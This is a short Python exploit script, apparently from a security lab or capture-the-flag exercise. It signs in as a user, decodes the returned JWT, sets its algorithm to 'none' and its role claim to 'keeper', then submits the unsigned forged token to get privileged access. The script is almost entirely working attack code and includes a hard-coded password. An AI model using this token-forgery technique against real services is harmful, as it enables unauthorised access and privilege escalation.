"""Say that the token is not signed, and that zoe is a keeper."""

import base64
import json

from target import call, sign_in


def part(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


token = sign_in("zoe", "harbour-7421", "archive")
header, claims = (json.loads(base64.urlsafe_b64decode(each + "===")) for each in token.split(".")[:2])
print(call("archive:plan", f"{part({**header, 'alg': 'none'})}.{part({**claims, 'role': 'keeper'})}."))
